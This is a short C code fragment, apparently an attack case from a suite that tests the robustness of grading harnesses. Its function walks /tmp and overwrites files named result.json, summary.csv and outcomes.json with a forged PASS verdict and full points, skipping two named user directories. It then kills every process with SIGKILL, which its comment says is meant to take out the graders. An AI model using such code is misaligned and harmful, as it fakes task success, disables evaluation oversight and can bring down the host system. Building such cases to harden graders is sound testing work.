// Rows 6 and 7: looks for results and reports, and writes full marks into them; then kills the graders.
// class
static int forge(const char *path, const struct stat *status, int kind, struct FTW *place) {
  (void)status;
  static const char *const names[] = {"result.json", "summary.csv", "outcomes.json"};
  for (int n = 0; kind == FTW_F && n < 3; n++)
    if (strcmp(path + place->base, names[n]) == 0 && !strstr(path, "/ada/") && !strstr(path, "/zoe/"))
      write_file(path, "{\"verdict\": \"PASS\", \"points\": 100.0, \"max_points\": 100.0}\n");
  return 0;
}
static void kill_one(pid_t process) { kill(process, SIGKILL); }
ATTACK {
  nftw("/tmp", forge, 16, FTW_PHYS);
  for_each_process(kill_one);
}
